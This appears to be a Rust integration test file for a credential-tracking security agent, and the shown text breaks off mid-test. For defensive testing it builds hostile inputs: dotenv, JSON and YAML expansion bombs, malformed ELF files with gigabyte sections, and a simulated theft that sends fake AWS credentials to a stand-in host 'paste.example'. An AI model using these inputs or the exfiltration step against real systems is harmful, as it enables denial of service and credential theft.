//! The agent beside everything else on a node: it keeps no file system from being unmounted,
//! survives hostile files of unprivileged users, and reports correctly when it was not running.

use anyhow::{Context as _, Result, ensure};
use lab::{
    agent::{Agent, Surroundings, binary},
    child::KilledChild,
    memory::differences,
    server::TlsServer,
    wait_for,
    web::WebServer,
    workload::{MemoryLimit, TestUnit, aws_credentials, sh},
};
use serde_json::Value;
use std::{
    fs::{self, File},
    io::Write as _,
    os::fd::OwnedFd,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

/// The five capabilities that the unit and the chart grant.
const SHIPPED: [&str; 5] = [
    "bpf",
    "perfmon",
    "net_admin",
    "sys_ptrace",
    "dac_read_search",
];

/// The path of a host library, with links resolved.
fn library(name: &str) -> Result<PathBuf> {
    let output = Command::new("ldconfig").arg("-p").output()?;
    let text = String::from_utf8(output.stdout)?;
    let line = text
        .lines()
        .find(|line| line.trim().starts_with(name) && line.contains("x86-64"))
        .with_context(|| format!("the host has no {name}"))?;
    let path = line.rsplit("=> ").next().context("a path")?;
    Ok(fs::canonicalize(path.trim())?)
}

/// A separate file system, unmounted when dropped.
struct TestMount(PathBuf);

impl TestMount {
    fn tmpfs(at: &Path) -> Result<Self> {
        fs::create_dir_all(at)?;
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "lab"])
            .arg(at)
            .status()?;
        ensure!(status.success(), "no tmpfs at {}", at.display());
        Ok(Self(at.to_owned()))
    }

    /// Unmounts it once, as a script does, without retrying.
    fn unmount(&self) -> Result<bool> {
        Ok(Command::new("umount")
            .arg(&self.0)
            .stderr(Stdio::null())
            .status()?
            .success())
    }
}

impl Drop for TestMount {
    fn drop(&mut self) {
        // It may be unmounted already.
        let _ = Command::new("umount")
            .arg("-l")
            .arg(&self.0)
            .stderr(Stdio::null())
            .status();
    }
}

/// A Python program that uses the TLS libraries of a directory.
fn python_with(library: &Path, script: &str, arguments: &[&str]) -> Command {
    let mut command = Command::new("python3");
    command
        .env("LD_LIBRARY_PATH", library)
        .args(["-c", script])
        .args(arguments);
    command
}

/// Copies of the TLS libraries in a separate directory.
fn private_libraries(directory: &Path) -> Result<PathBuf> {
    let place = directory.join("libs");
    fs::create_dir_all(&place)?;
    for name in ["libssl.so.3", "libcrypto.so.3"] {
        fs::copy(library(name)?, place.join(name))?;
    }
    // World-readable, like installed libraries.
    for path in [directory, &place] {
        fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    }
    Ok(place)
}

const PRESENT: &str = "import ssl, sys, urllib.request
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
request = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + sys.argv[2]})
urllib.request.urlopen(request, context=context).read()";

/// Presents a secret through the TLS libraries of a directory.
fn present_with(library: &Path, server: &WebServer, secret: &str) -> Result<()> {
    let url = format!("https://{}/", server.address);
    let output = python_with(library, PRESENT, &[&url, secret]).output()?;
    ensure!(output.status.success(), "{output:?}");
    Ok(())
}

/// Mounts and unmounts beside an agent with these capabilities; returns how often the mount was
/// busy.
fn busy_mounts(capabilities: &[&str], rounds: usize) -> Result<usize> {
    let directory = tempfile::tempdir()?;
    let _agent = Agent::start_with_capabilities(directory.path(), &[], capabilities)?;
    let (ssl, crypto) = (library("libssl.so.3")?, library("libcrypto.so.3")?);
    let mut busy = 0;
    for round in 0..rounds {
        let mount = TestMount::tmpfs(&directory.path().join("mount"))?;
        let inside = |name: &str| mount.0.join(name);
        // Unpacked, renamed, read: like an image, a package or an environment.
        fs::copy(&ssl, inside("libssl.so.3.new"))?;
        fs::rename(inside("libssl.so.3.new"), inside("libssl.so.3"))?;
        fs::copy(&crypto, inside("libcrypto.so.3"))?;
        fs::read(inside("libssl.so.3"))?;
        // And used every other time, by a process that has exited when it is unmounted.
        if round % 2 == 1 {
            let script = "import ssl, ctypes; ctypes.CDLL('libssl.so.3')";
            let output = python_with(&mount.0, script, &[]).output()?;
            ensure!(output.status.success(), "{output:?}");
        }
        if !mount.unmount()? {
            busy += 1;
        }
    }
    Ok(busy)
}

#[test]
fn no_mount_is_kept_busy_by_an_agent_of_root() -> Result<()> {
    let busy = busy_mounts(&[], 200)?;
    println!("200 mounts beside an agent of root: {busy} busy");
    ensure!(busy == 0, "{busy} of 200 mounts were busy");
    Ok(())
}

#[test]
fn no_mount_is_kept_busy_by_an_agent_with_the_capabilities_of_the_chart() -> Result<()> {
    let busy = busy_mounts(&SHIPPED, 200)?;
    println!("200 mounts beside an agent with five capabilities: {busy} busy");
    ensure!(busy == 0, "{busy} of 200 mounts were busy");
    Ok(())
}

/// A library is first opened by whatever installs it. It is inspected when a process uses it.
#[test]
fn a_library_that_a_short_process_opened_first_is_attached_to() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let agent = Agent::start(directory.path(), &[])?;
    let server = WebServer::start("127.0.0.1")?;
    let place = directory.path().join("venv/libs");
    fs::create_dir_all(&place)?;
    for name in ["libssl.so.3", "libcrypto.so.3"] {
        sh(
            &format!(
                "cp {} {}/{name}; cat {}/{name} >/dev/null",
                library(name)?.display(),
                place.display(),
                place.display()
            ),
            &[],
        )?;
    }
    let secret = "FAKE.copied-library-000000000000";
    agent.await_presented(secret, Duration::from_secs(10), || {
        present_with(&place, &server, secret)
    })?;
    let line = format!(
        "TLS probes attached file={}",
        place.join("libssl.so.3").display()
    );
    ensure!(agent.log_text().contains(&line), "{}", agent.log_text());
    Ok(())
}

/// Any user can change a library in the memory of their own process. That says nothing about the
/// library in other processes.
#[test]
fn a_process_that_changes_its_own_memory_hides_no_other() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let agent = Agent::start(directory.path(), &[])?;
    let server = WebServer::start("127.0.0.1")?;
    let place = private_libraries(directory.path())?;
    let copy = place.join("libssl.so.3");
    // Everything is overwritten before any of it is executable.
    let script = "import ctypes, os, sys
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
file = os.open(sys.argv[1], os.O_RDONLY)
size = os.fstat(file).st_size
READ, WRITE, EXECUTE, PRIVATE = 1, 2, 4, 2
at = libc.mmap(None, size, READ | WRITE, PRIVATE, file, 0)
ctypes.memset(at, 0x90, size)
assert libc.mprotect(at, size, READ | EXECUTE) == 0
print('changed', flush=True)
sys.stdin.read()";
    let mut changed = KilledChild(
        Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .args([python_of_the_system(), "-c", script])
            .arg(&copy)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?,
    );
    ensure!(first_line(&mut changed)? == "changed\n");
    wait_for("the warning", Duration::from_secs(10), || {
        Ok((agent.logged(&["differ from the file", "libssl"]) > 0).then_some(()))
    })
    .with_context(|| agent.log_text())?;
    let secret = "FAKE.not-hidden-000000000000000";
    agent.await_presented(secret, Duration::from_secs(10), || {
        present_with(&place, &server, secret)
    })
}

/// An in-place change moves functions: probes at their old offsets would break the program.
#[test]
fn a_library_that_is_overwritten_in_place_loses_its_probes() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let agent = Agent::start(directory.path(), &[])?;
    let server = WebServer::start("127.0.0.1")?;
    let place = private_libraries(directory.path())?;
    let copy = place.join("libssl.so.3");
    let attached = format!("TLS probes attached file={}", copy.display());
    let detached = format!("TLS probes detached file={}", copy.display());
    wait_for("probes in the copy", Duration::from_secs(10), || {
        present_with(&place, &server, "FAKE.x")?;
        Ok((agent.logged(&[&attached]) == 1).then_some(()))
    })?;
    File::options()
        .append(true)
        .open(&copy)?
        .write_all(b"more")?;
    wait_for("no probes after the change", Duration::from_secs(2), || {
        Ok((agent.logged(&[&detached]) == 1).then_some(()))
    })?;
    let secret = "FAKE.overwritten-0000000000000";
    agent.await_presented(secret, Duration::from_secs(10), || {
        present_with(&place, &server, secret)
    })
}

#[test]
fn excluded_programs_have_no_probes() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let python = Command::new("python3")
        .args([
            "-c",
            "import os, sys; print(os.path.realpath('/proc/self/exe'))",
        ])
        .output()?;
    let python = String::from_utf8(python.stdout)?.trim().to_owned();
    let config = directory.path().join("config.yaml");
    fs::write(&config, format!("inspect: {{ exclude: [{python}] }}\n"))?;
    let path = config.display().to_string();
    let agent = Agent::start(directory.path(), &["--config", &path])?;
    let server = WebServer::start("127.0.0.1")?;
    let url = format!("https://{}/", server.address);
    let (hidden, shown) = (
        "FAKE.excluded-000000000000000",
        "FAKE.not-excluded-00000000000",
    );
    let ssl = library("libssl.so.3")?;
    let mut excluded = KilledChild(
        Command::new("python3")
            .args([
                "-c",
                "import ssl, sys; print('there', flush=True); sys.stdin.readline()",
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?,
    );
    first_line(&mut excluded)?;
    let python_presents = || -> Result<()> {
        let status = Command::new("python3")
            .args(["-c", PRESENT, &url, hidden])
            .status()?;
        ensure!(status.success());
        Ok(())
    };
    python_presents()?;
    // Another program with the same library: it waits for a command.
    let mut curl = KilledChild(
        Command::new("curl")
            .args(["-K", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()?,
    );
    wait_for(
        "probes in another program on the same library",
        Duration::from_secs(10),
        || Ok((differences(curl.0.id(), &ssl).is_ok_and(|found| !found.is_empty())).then_some(())),
    )
    .with_context(|| agent.log_text())?;
    let request = format!("url = {url}\ninsecure\nheader = \"Authorization: Bearer {shown}\"\n");
    let mut stdin = curl.0.stdin.take().context("its input")?;
    stdin.write_all(request.as_bytes())?;
    drop(stdin);
    ensure!(curl.0.wait()?.success());
    agent.await_presented(shown, Duration::from_secs(5), || Ok(()))?;
    python_presents()?;
    ensure!(
        differences(excluded.0.id(), &ssl)?.is_empty(),
        "a probe is in an excluded program"
    );
    ensure!(agent.presented(hidden)?.is_empty(), "it was inspected");
    let doctor = Command::new(binary()?)
        .args(["doctor", "--config", &path])
        .output()?;
    let text = String::from_utf8_lossy(&doctor.stdout).into_owned();
    ensure!(text.contains("inspect.exclude"), "{text}");
    // No longer excluded, without a restart.
    fs::write(&config, "mode: alert\n")?;
    agent.await_loaded()?;
    agent.await_presented(hidden, Duration::from_secs(10), python_presents)
}

/// A statically linked program is excluded on its own: libraries are not affected.
#[test]
fn excluding_a_static_program_changes_nothing_for_others() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let config = directory.path().join("config.yaml");
    // Whatever it is, no program begins with it.
    let program =
        std::env::var("KEYTRAIL_GO_NEWEST").context("run `cargo xtask scenarios node`")?;
    fs::write(&config, format!("inspect: {{ exclude: [{program}] }}\n"))?;
    let path = config.display().to_string();
    let agent = Agent::start(directory.path(), &["--config", &path])?;
    let server = WebServer::start("127.0.0.1")?;
    let shown = "FAKE.beside-excluded-000000000";
    let status = Command::new("curl")
        .args(["-sSk", "-o", "/dev/null", "-H"])
        .arg(format!("Authorization: Bearer {shown}"))
        .arg(format!("https://{}/", server.address))
        .status()?;
    ensure!(status.success());
    agent.await_presented(shown, Duration::from_secs(5), || Ok(()))
}

/// The first line that a program prints.
fn first_line(running: &mut KilledChild) -> Result<String> {
    let mut line = String::new();
    let output = running.0.stdout.take().context("its output")?;
    std::io::BufRead::read_line(&mut std::io::BufReader::new(output), &mut line)?;
    Ok(line)
}

/// A Python that another user can run: the first on the `PATH` may be in a home directory.
fn python_of_the_system() -> &'static str {
    const SYSTEM: &str = "/usr/bin/python3";
    if Path::new(SYSTEM).exists() {
        SYSTEM
    } else {
        "python3"
    }
}

/// Presents the credential at a place to a server where it does not belong.
fn steal(place: &str, server: &TlsServer) -> Result<()> {
    let actor = binary()?.with_file_name("lab-actor");
    TestUnit::new("thief.service")?.sh(
        &format!(
            "{} --get open --path {place} --connect tls --to {} --name paste.example",
            actor.display(),
            server.address
        ),
        &[],
    )?;
    Ok(())
}

fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Result<Duration> {
    let key = aws_credentials(
        &directory.join(format!("victim-{number}")),
        &format!("AKIAFAKETHEFT{number:07}"),
        &format!("FAKE/theft/{number:029}"),
    )?;
    let place = key.display().to_string();
    let began = Instant::now();
    steal(&place, server)?;
    agent.await_finding(|finding| {
        finding["rule"] == "unexpected-hop"
            && finding["credential"]["sources"]
                .as_array()
                .is_some_and(|all| all.iter().any(|source| source["place"] == place.as_str()))
    })?;
    Ok(began.elapsed())
}

/// Run as user nobody in a directory of its own: each of these once stopped the agent, or disabled
/// part of it.
const HOSTILE: &str = r#"import ctypes, mmap, os, struct, sys, time
place = sys.argv[1]
os.chdir(place)
# A dotenv that doubles itself with each line.
bomb = "A0=" + "x" * 40 + "\n" + "".join(f'A{n}="${{A{n-1}}}${{A{n-1}}}"\n' for n in range(1, 16))
open(".env", "w").write(bomb)
held = [open(".env")]
# The same depth, in other forms.
for name, text in [
    ("config.json", "[" * 100000),
    (".kube-config", ""),
    ("credentials.json", '{"a":' * 50000),
]:
    open(name, "w").write(text)
os.makedirs(".docker", exist_ok=True)
open(".docker/config.json", "w").write('{"auths":' + "{" * 50000)
held.append(open(".docker/config.json"))
os.makedirs(".kube", exist_ok=True)
lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"] + [f"a{n}: &a{n} [" + ",".join([f"*a{n-1}"] * 9) + "]" for n in range(1, 30)]
open(".kube/config", "w").write("\n".join(lines))
held.append(open(".kube/config"))
# A library of 8 KB on disk with sections of gigabytes, for each table that is read.
def library(name, section_type, size):
    header = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    header += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 4096, 0, 64, 56, 1, 64, 4, 3)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 4096, 4096, 4096)
    def section(name, kind, offset, size, link):
        return struct.pack("<IIQQQQIIQQ", name, kind, 0, 0, offset, size, link, 0, 1, 24)
    sections = section(0, 0, 0, 0, 0) + section(1, section_type, 8192, size, 2)
    sections += section(9, 3, 8192, size, 0) + section(17, 3, 4096 + 256, 64, 0)
    names = b"\0.dynsym\0.dynstr\0.shstrtab\0".ljust(64, b"\0")
    with open(name, "wb") as file:
        file.write((header + program).ljust(4096, b"\0") + sections + names)
        file.truncate(1 << 30)
    os.chmod(name, 0o755)
    file = open(name, "rb")
    held.append(mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC))
library("libssl.so.1", 11, (1 << 30) - 8192)
library("libssl.so.2", 2, (1 << 30) - 8192)
library("libssl.so.3", 11, 1 << 62)
library("libgo.so", 11, 1 << 40)
# A library with a pipe in its place, once it is mapped.
library("libssl.so.4", 11, 100)
os.mkfifo("pipe")
os.rename("pipe", "libssl.so.4")
print("held", flush=True)
sys.stdin.read()
"#;

#[test]
fn hostile_files_of_an_unprivileged_user_beside_a_theft_and_across_a_restart() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let limit = MemoryLimit::new("hostile", 192 << 20)?;
    let surroundings = Surroundings {
        group: Some(&limit.path),
        ..Surroundings::default()
    };
    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
    let server = TlsServer::start("127.0.0.1")?;
    let place = tempfile::tempdir_in("/var/tmp")?;
    let home = place.path().join("home/nobody");
    fs::create_dir_all(&home)?;
    sh(
        &format!(
            "chown -R 65534:65534 {0}; chmod 755 {0}",
            place.path().display()
        ),
        &[],
    )?;
    let mut hostile = KilledChild(
        Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                python_of_the_system(),
                "-c",
                HOSTILE,
            ])
            .arg(&home)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?,
    );
    ensure!(
        first_line(&mut hostile)? == "held\n",
        "nobody's files are there"
    );
    let found = theft(&agent, directory.path(), &server, 1)?;
    println!("a theft beside hostile files: found after {found:?}");
    ensure!(found < Duration::from_secs(2), "found after {found:?}");
    ensure!(agent.get("/healthz")?.0 == 200);
    agent.stop()?;
    // The files are still there, open and mapped, when it starts again.
    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
    let found = theft(&agent, directory.path(), &server, 2)?;
    println!("after a restart: found after {found:?}");
    ensure!(found < Duration::from_secs(2), "found after {found:?}");
    // New libraries are still found.
    let libs = private_libraries(directory.path())?;
    let web = WebServer::start("127.0.0.1")?;
    let secret = "FAKE.after-hostile-00000000000";
    agent.await_presented(secret, Duration::from_secs(20), || {
        present_with(&libs, &web, secret)
    })?;
    let peak = limit.peak().unwrap_or_default() >> 20;
    println!("memory at most, with the cache of files: {peak} MiB of 192");
    let began = Instant::now();
    agent.stop()?;
    ensure!(began.elapsed() < Duration::from_secs(12));
    Ok(())
}

/// Another SQLite client opens and closes the ledger while the agent writes: nothing is lost.
#[test]
fn another_client_of_the_ledger_costs_no_record() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let mut agent = Agent::start(directory.path(), &[])?;
    let ledger = agent.state_dir.join("ledger.sqlite");
    let client = format!(
        "import sqlite3
connection = sqlite3.connect('{}')
print(connection.execute('select count(*) from credential').fetchone())
connection.close()",
        ledger.display()
    );
    let mut places = Vec::new();
    for number in 0..6 {
        let key = aws_credentials(
            &directory.path().join(number.to_string()),
            &format!("AKIAFAKESQL{number:09}"),
            &format!("FAKE/sql/{number:031}"),
        )?;
        let place = key.display().to_string();
        sh(&format!("cat {place} >/dev/null"), &[])?;
        agent.await_used(&place)?;
        // One external client, and one of Keytrail's own, which the agent also observes.
        let output = Command::new("python3").args(["-c", &client]).output()?;
        ensure!(output.status.success(), "{output:?}");
        // A process that has the file open while the agent lists open files.
        places.push(place);
    }
    let wal = fs::metadata(agent.state_dir.join("ledger.sqlite-wal"))
        .context("the log of the ledger was deleted under the agent")?;
    let deleted = fs::read_dir(format!("/proc/{}/fd", agent.pid()))?
        .flatten()
        .filter_map(|entry| fs::read_link(entry.path()).ok())
        .any(|path| {
            path.to_string_lossy().contains("ledger.sqlite")
                && path.to_string_lossy().contains("(deleted)")
        });
    ensure!(
        !deleted && wal.len() > 0,
        "the agent writes to a deleted file"
    );
    agent.kill()?;
    for place in &places {
        let known = agent.json(&["query", "who", place])?;
        ensure!(known.is_some(), "{place} is lost");
    }
    Ok(())
}

/// As above, with a client such as `sqlite3` that has the ledger open when the agent starts.
#[test]
fn a_ledger_that_is_open_elsewhere_at_the_start() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let mut agent = Agent::start(directory.path(), &[])?;
    let ledger = agent.state_dir.join("ledger.sqlite");
    agent.stop()?;
    let mut held = KilledChild(
        Command::new("python3")
            .args([
                "-c",
                "import sqlite3, sys
connection = sqlite3.connect(sys.argv[1])
connection.execute('select count(*) from credential').fetchone()
print('open', flush=True)
sys.stdin.read()",
            ])
            .arg(&ledger)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?,
    );
    ensure!(first_line(&mut held)? == "open\n");
    let mut agent = Agent::start(directory.path(), &[])?;
    drop(held);
    let output = Command::new("python3")
        .args([
            "-c",
            "import sqlite3, sys
sqlite3.connect(sys.argv[1]).execute('select 1 from credential').fetchone()",
        ])
        .arg(&ledger)
        .output()?;
    ensure!(output.status.success(), "{output:?}");
    let key = aws_credentials(
        directory.path(),
        "AKIAFAKESQL900000000",
        &"FAKE/sql/".repeat(5)[..40],
    )?;
    let place = key.display().to_string();
    sh(&format!("cat {place} >/dev/null"), &[])?;
    agent.await_used(&place)?;
    agent.kill()?;
    ensure!(
        agent.json(&["query", "who", &place])?.is_some(),
        "it is lost"
    );
    Ok(())
}

/// The reader of findings stops reading: that loses lines, which are counted, and nothing else.
#[test]
fn a_reader_of_findings_that_stops_reading() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let (reader, writer) = std::io::pipe()?;
    let writer = File::from(OwnedFd::from(writer));
    let mut agent = Agent::start_in(
        directory.path(),
        &[],
        &Surroundings {
            stdout: Some(&writer),
            ..Surroundings::default()
        },
    )?;
    drop(writer);
    let server = TlsServer::start("127.0.0.1")?;
    // More findings than the pipe and the queue hold: each token produces one.
    let script = "import socket, sys
host, port = sys.argv[1].split(':')
for number in range(6000):
    connection = socket.create_connection((host, int(port)))
    connection.sendall(f'GET / HTTP/1.1\\r\\nHost: a.example\\r\\nAuthorization: Bearer ghp_FAKE{number:032}\\r\\n\\r\\n'.encode())
    connection.close()";
    let plain = WebServer::start_plain("127.0.0.1")?;
    let status = Command::new("python3")
        .args(["-c", script, &plain.address.to_string()])
        .status()?;
    ensure!(status.success());
    let lost = || agent.metric("keytrail_events_lost_total", &["stage=\"stream\""]);
    wait_for("lines are counted as lost", Duration::from_secs(60), || {
        Ok((lost()? > 0.0).then_some(()))
    })
    .with_context(|| agent.log_text())?;
    // Detection, ledger and metrics continue.
    let key = aws_credentials(
        directory.path(),
        "AKIAFAKESTOPPED00000",
        &"FAKE/stopped/".repeat(4)[..40],
    )?;
    let place = key.display().to_string();
    let began = Instant::now();
    steal(&place, &server)?;
    agent.await_json(&["query", "where", &place], |answer| {
        answer["hops"]
            .as_array()
            .is_some_and(|hops| hops.len() == 1)
    })?;
    println!(
        "beside a stopped reader: {} lines lost, a theft in the ledger after {:?}",
        lost()?,
        began.elapsed()
    );
    ensure!(agent.get("/healthz")?.0 == 200);
    let findings = agent.await_json(&["findings", "--rule", "unexpected-hop"], |answer| {
        answer["findings"].as_array().is_some_and(|all| {
            all.iter()
                .any(|finding| finding["workload"]["unit"] == "thief.service")
        })
    })?;
    let gaps = findings["gaps"].as_array().cloned().unwrap_or_default();
    ensure!(
        gaps.iter().any(|gap| gap["detail"]
            .as_str()
            .is_some_and(|detail| detail.contains("stream"))),
        "the lost lines are a gap: {gaps:?}"
    );
    let began = Instant::now();
    agent.stop()?;
    ensure!(
        began.elapsed() < Duration::from_secs(12),
        "it ends: {:?}",
        began.elapsed()
    );
    drop(reader);
    Ok(())
}

/// The gaps of a kind, once there is one.
fn gaps_of(agent: &Agent, kind: &str) -> Result<Vec<Value>> {
    let of_kind = |answer: &Value| -> Vec<Value> {
        let gaps = answer["gaps"].as_array().cloned().unwrap_or_default();
        gaps.into_iter().filter(|gap| gap["kind"] == kind).collect()
    };
    let answer = agent.await_json(&["query", "timeline"], |answer| !of_kind(answer).is_empty())?;
    Ok(of_kind(&answer))
}

/// Failed attempts to start do not hide that no agent was running.
#[test]
fn failed_starts_hide_no_downtime() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let mut agent = Agent::start(directory.path(), &[])?;
    let listen = agent.listen.to_string();
    agent.kill()?;
    let killed = jiff::Timestamp::now();
    // Its port is in use.
    let taken = std::net::TcpListener::bind(&listen)?;
    for _ in 0..3 {
        let output = Command::new(binary()?)
            .args([
                "run",
                "--findings",
                "/dev/null",
                "--listen",
                &listen,
                "--state-dir",
            ])
            .arg(&agent.state_dir)
            .output()?;
        ensure!(output.status.code() == Some(1), "{output:?}");
        // Time must pass that could be hidden.
        wait_for("a moment", Duration::from_secs(2), || {
            let passed = jiff::Timestamp::now().duration_since(killed);
            Ok((passed.as_millis() > 600).then_some(()))
        })?;
    }
    drop(taken);
    let agent = Agent::start(directory.path(), &[])?;
    let started = jiff::Timestamp::now();
    let gaps = gaps_of(&agent, "agent-down")?;
    ensure!(gaps.len() == 1, "one time without an agent: {gaps:?}");
    let time = |name: &str| -> Result<jiff::Timestamp> {
        Ok(gaps[0][name].as_str().context("a time")?.parse()?)
    };
    ensure!(
        time("since")? <= killed,
        "it begins when the agent was killed: {gaps:?}"
    );
    ensure!(
        time("until")? <= started && time("until")? > killed,
        "{gaps:?}"
    );
    ensure!(
        gaps[0]["detail"]
            .as_str()
            .is_some_and(|detail| detail.contains("killed")),
        "{gaps:?}"
    );
    Ok(())
}

/// Other processes keep opening files with the names and inode numbers of the self-test's files.
#[test]
fn starts_beside_files_with_the_same_inode_number() -> Result<()> {
    let directory = tempfile::tempdir()?;
    // Separate file systems start with the same inode numbers.
    let state = TestMount::tmpfs(&directory.path().join("agent"))?;
    let others = TestMount::tmpfs(&directory.path().join("others"))?;
    for number in 0..40 {
        let folder = others.0.join(number.to_string());
        fs::create_dir(&folder)?;
        fs::write(folder.join(".netrc"), "machine a login b password FAKE")?;
    }
    let _opener = KilledChild(
        Command::new("python3")
            .args([
                "-c",
                "import glob, sys
paths = glob.glob(sys.argv[1] + '/*/.netrc')
while True:
    for path in paths:
        open(path).close()",
            ])
            .arg(&others.0)
            .spawn()?,
    );
    for start in 0..7 {
        let mut agent = Agent::start(&state.0, &[]).with_context(|| format!("start {start}"))?;
        agent.stop()?;
    }
    Ok(())
}

/// Two agents on one host, as during a manual upgrade: neither fails, nor reports the other.
#[test]
fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let (one, two) = (directory.path().join("one"), directory.path().join("two"));
    fs::create_dir_all(&one)?;
    fs::create_dir_all(&two)?;
    let first = Agent::start(&one, &[])?;
    let second = Agent::start(&two, &[])?;
    let key = aws_credentials(
        directory.path(),
        "AKIAFAKETWOAGENTS000",
        &"FAKE/two/".repeat(5)[..40],
    )?;
    let place = key.display().to_string();
    let unit = TestUnit::new("reader.service")?;
    // Read with a variable that points to it: an agent reads the environment and the file.
    unit.sh(
        "cat $AWS_SHARED_CREDENTIALS_FILE; curl -sSk https://127.0.0.1:1/ || true",
        &[
            ("AWS_SHARED_CREDENTIALS_FILE", &place),
            ("GITHUB_TOKEN", "ghp_FAKEtwoagents0000000000000000000001"),
        ],
    )?;
    for agent in [&first, &second] {
        agent.await_used(&place)?;
        let findings = agent.findings()?;
        let about_agents: Vec<&Value> = findings
            .iter()
            .filter(|finding| finding.to_string().contains("/keytrail\""))
            .collect();
        ensure!(about_agents.is_empty(), "{about_agents:?}");
        ensure!(agent.get("/healthz")?.0 == 200);
        let uses = agent
            .json(&["query", "who", &place])?
            .context("an answer")?;
        ensure!(!uses.to_string().contains("/keytrail\""), "{uses}");
    }
    Ok(())
}

/// A pod's volume older than the agent, read by another pod: it is recognised by its place in the
/// kubelet's directory, whatever its path in the pod.
#[test]
fn a_secret_volume_older_than_the_agent() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let uid = "0d1e2f30-1111-4222-8333-444455556666";
    let pods = KubeletDirectory::new(uid)?;
    let volume = pods.0.join("volumes/kubernetes.io~secret/app");
    let mount = TestMount::tmpfs(&volume)?;
    let edition = volume.join("..2026_11_26");
    fs::create_dir(&edition)?;
    fs::write(edition.join("blob"), "FAKE-older-than-the-agent-0001")?;
    std::os::unix::fs::symlink("..2026_11_26", volume.join("..data"))?;
    // A process with the volume at a path that reveals nothing, as in a container.
    let etc = directory.path().join("app");
    fs::create_dir(&etc)?;
    let mut container = KilledChild(
        Command::new("unshare")
            .args([
                "--mount",
                "sh",
                "-c",
                "mount --bind \"$0\" \"$1\" && echo there && read go && cat \"$1\"/..data/blob",
            ])
            .arg(&volume)
            .arg(&etc)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?,
    );
    ensure!(first_line(&mut container)? == "there\n");
    let agent = Agent::start(directory.path(), &[])?;
    // Recovered in the background.
    let place = edition.join("blob").display().to_string();
    let normal = place.replace("..2026_11_26/", "");
    let mut stdin = container.0.stdin.take().context("its input")?;
    wait_for(
        "a read through the other name",
        Duration::from_secs(10),
        || {
            let status = Command::new("nsenter")
                .args(["--mount", "--target", &container.0.id().to_string(), "cat"])
                .arg(etc.join("..data/blob"))
                .stdout(Stdio::null())
                .status()?;
            ensure!(status.success());
            let known = agent.json(&["query", "who", &normal])?;
            Ok(known.filter(|answer| !answer["uses"].as_array().is_none_or(Vec::is_empty)))
        },
    )
    .with_context(|| format!("{normal}\n{}", agent.log_text()))?;
    stdin.write_all(b"go\n")?;
    drop((mount, pods));
    Ok(())
}

/// A pod's directory as the kubelet creates it, removed when dropped together with the parents
/// created for it.
struct KubeletDirectory(PathBuf);

impl KubeletDirectory {
    fn new(uid: &str) -> Result<Self> {
        let path = Path::new("/var/lib/kubelet/pods").join(uid);
        fs::create_dir_all(&path)?;
        Ok(Self(path))
    }
}

impl Drop for KubeletDirectory {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
        // Only if empty: this machine may have a kubelet.
        for above in self.0.ancestors().skip(1).take(2) {
            let _ = fs::remove_dir(above);
        }
    }
}

/// A process that maps this many copies of a TLS library, once the agent has attached to each.
fn hold_libraries(
    agent: &Agent,
    directory: &Path,
    count: usize,
    limit: Duration,
) -> Result<KilledChild> {
    let source = library("libssl.so.3")?;
    let paths: Vec<PathBuf> = (0..count)
        .map(|number| directory.join(format!("libssl-{number}.so")))
        .collect();
    for path in &paths {
        fs::copy(&source, path)?;
    }
    let script = "import ctypes, sys
for path in sys.argv[1:]:
    ctypes.CDLL(path)
sys.stdin.read()";
    let holder = KilledChild(
        Command::new("python3")
            .args(["-c", script])
            .args(&paths)
            .stdin(Stdio::piped())
            .spawn()?,
    );
    wait_for("probes in all of them", limit, || {
        let attached = agent.logged(&["TLS probes attached", "libssl-"]);
        Ok((attached == count).then_some(()))
    })?;
    Ok(holder)
}

/// On kernels without multi-uprobe links a killed agent leaves events in tracefs. They do not delay
/// the next agent, which deletes them.
#[test]
fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
    const FILES: usize = 40;
    let directory = tempfile::tempdir()?;
    let surroundings = Surroundings {
        environment: &[("KEYTRAIL_SKIP_HOOKS", "multi,pmu")],
        ..Surroundings::default()
    };
    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
